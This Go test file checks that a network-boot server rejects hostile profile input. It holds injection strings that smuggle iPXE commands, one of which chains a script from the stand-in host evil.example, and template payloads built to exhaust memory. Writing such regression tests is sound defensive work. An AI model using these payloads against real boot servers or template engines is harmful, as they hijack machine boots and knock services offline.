package attack_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// TestProfileCmdlineInjection — finding 2: a bare ";" in a profile's
// cmdline ended iPXE's kernel command and started the attacker's.
func TestProfileCmdlineInjection(t *testing.T) {
	s := startServer(t, serverOptions{})
	s.mustAPI(http.StatusCreated, "POST", "/api/v1/profiles", benignProfile("benign"), nil)
	for i, cmdline := range []string{
		"console=ttyS0 ; echo INJECTED ;",
		"; chain http://evil.example/pwn.ipxe ;",
	} {
		p := benignProfile(fmt.Sprintf("inject%d", i))
		p["cmdline"] = cmdline
		if a := s.api("POST", "/api/v1/profiles", p); a.code != http.StatusBadRequest || a.field() != "cmdline" {
			t.Errorf("POST /api/v1/profiles with cmdline %q: %s, want 400 naming cmdline", cmdline, a)
		}
		patch := map[string]any{"cmdline": cmdline}
		if a := s.api("PATCH", "/api/v1/profiles/benign", patch); a.code != http.StatusBadRequest || a.field() != "cmdline" {
			t.Errorf("PATCH /api/v1/profiles/benign with cmdline %q: %s, want 400 naming cmdline", cmdline, a)
		}
	}
}

// TestProfileConfigTemplateDoS — finding 3: a profile's config template
// is rendered on save and on every boot; nested ranges and printf doubling
// took the server to 1 GB RSS. Both must be refused (400 naming config)
// with the server's memory bounded. The client timeout is a safety net,
// not an assertion.
func TestProfileConfigTemplateDoS(t *testing.T) {
	s := startServer(t, serverOptions{})
	doubling := `{{$s := "x"}}` + strings.Repeat(`{{$s = printf "%s%s" $s $s}}`, 30) + `{{len $s}}`
	for _, tc := range []struct{ what, config string }{
		{"nested range", `{{range 10000}}{{range 10000}}{{end}}{{end}}`},
		{"printf doubling", doubling},
		{"define recursion doubling", `{{define "d"}}{{if lt (len .) 268435456}}{{template "d" (printf "%s%s" . .)}}` +
			`{{else}}{{len .}}{{end}}{{end}}{{template "d" "x"}}`},
		// The old code already capped the rendered output (1 MiB); kept so
		// a budget on values alone cannot regress it.
		{"billion laughs", laughs(18)},
	} {
		_, peak0 := s.memory()
		p := benignProfile("dos")
		p["config"] = tc.config
		a := s.api("POST", "/api/v1/profiles", p)
		if a.code != http.StatusBadRequest || a.field() != "config" {
			t.Errorf("%s: POST /api/v1/profiles: %s, want 400 naming config", tc.what, a)
		}
		s.checkMemory(tc.what, peak0)
		if a.code == http.StatusCreated {
			s.api("DELETE", "/api/v1/profiles/dos", nil)
		}
	}
}

// laughs is a "billion laughs" template: n defined templates, each calling
// the one before twice, the first printing 1 KiB: 2^n KiB of output from a
// few hundred bytes, with no large value ever held in a variable.
func laughs(n int) string {
	var b strings.Builder
	b.WriteString(`{{define "t0"}}` + strings.Repeat("x", 1024) + `{{end}}`)
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, `{{define "t%d"}}{{template "t%d"}}{{template "t%d"}}{{end}}`, i, i-1, i-1)
	}
	fmt.Fprintf(&b, `{{template "t%d"}}`, n)
	return b.String()
}
